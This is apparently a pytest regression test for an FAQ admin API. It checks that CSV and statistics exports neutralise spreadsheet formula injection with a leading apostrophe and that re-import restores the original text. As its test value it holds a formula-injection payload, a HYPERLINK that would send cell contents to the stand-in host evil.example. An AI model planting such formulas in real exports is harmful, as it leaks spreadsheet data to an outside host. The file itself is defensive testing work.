"""No CSV the API writes can run a formula in a spreadsheet (issue 13, point 6), over real HTTP.

The path the issue found: a migrant's own message reaches the inbox, staff attach it to an entry
as an alternate wording, and the FAQ export (opened in Excel by a manager) starts a cell with it.
"""

from __future__ import annotations

import csv
import io

from faq.matcher import Decision
from faq.spreadsheet import FORMULA_STARTS
from tests.admin_api.conftest import Api, record
from tests.admin_api.helpers import new_entry
from tests.conftest import FakeClock

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Click for help")'


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_no_formula(text: str) -> None:
    risky = [c for c in cells(text) if c.startswith(FORMULA_STARTS)]
    assert not risky, risky


async def test_a_message_from_the_inbox_is_exported_as_text(api: Api, clock: FakeClock) -> None:
    body = new_entry("fishing-licence")
    body["translations"]["en"]["alternates"] = []
    res = await api.http.post("/api/v1/faq", json=body, headers=api.auth("editor"))
    assert res.status_code == 201, res.text
    await record(api.services, FORMULA, "en", Decision.NONE)
    clock.advance(minutes=1)
    await record(api.services, "-2+3 how do I fish", "en", Decision.NONE)
    inbox = (await api.http.get("/api/v1/inbox", headers=api.auth("editor"))).json()
    formula_cluster = next(c for c in inbox["clusters"] if c["examples"] == [FORMULA])
    res = await api.http.post(f"/api/v1/inbox/{formula_cluster['id']}/attach",
                              json={"entry": "fishing-licence", "lang": "en"},
                              headers=api.auth("editor"))
    assert res.status_code == 200, res.text
    assert res.json()["added"] == [FORMULA]

    export = await api.http.get("/api/v1/faq/export", params={"format": "csv"},
                                headers=api.auth("manager"))
    assert export.status_code == 200
    assert_no_formula(export.text)
    row = next(r for r in csv.DictReader(io.StringIO(export.text)) if r["id"] == "fishing-licence")
    assert row["alternates_en"] == "'" + FORMULA  # shown as text, the apostrophe hidden

    # The export imports back unchanged: the apostrophe is taken away again.
    res = await api.http.post("/api/v1/faq/import", params={"dry_run": True},
                              files={"file": ("faq.csv", export.text.encode(), "text/csv")},
                              headers=api.auth("editor"))
    assert res.status_code == 200, res.text
    assert res.json()["added"] == res.json()["updated"] == 0
    stored = await api.services.store.get("fishing-licence")
    assert stored is not None and stored.translations["en"].alternates == [FORMULA]


async def test_statistics_csv_cells_are_neutralised(api: Api, clock: FakeClock) -> None:
    body = new_entry("at-sign-entry")
    body["translations"]["es"]["question"] = "@Migración: ¿cómo saco el carné de pescador?"
    res = await api.http.post("/api/v1/faq", json=body, headers=api.auth("editor"))
    assert res.status_code == 201, res.text
    await record(api.services, "carne de pescador", "es", Decision.ANSWER, "at-sign-entry")
    day = clock.now.date().isoformat()
    for path in ("entries", "summary", "daily"):
        res = await api.http.get(f"/api/v1/stats/{path}",
                                 params={"format": "csv", "from": day, "to": day},
                                 headers=api.auth("manager"))
        assert res.status_code == 200, res.text
        assert_no_formula(res.text)
    rows = list(csv.DictReader(io.StringIO(res.text)))
    assert rows and rows[0]["questions"] == "1"  # numbers stay numbers
    entries = await api.http.get("/api/v1/stats/entries",
                                 params={"format": "csv", "from": day, "to": day},
                                 headers=api.auth("manager"))
    row = next(csv.DictReader(io.StringIO(entries.text)))
    assert row["question"] == "'@Migración: ¿cómo saco el carné de pescador?"
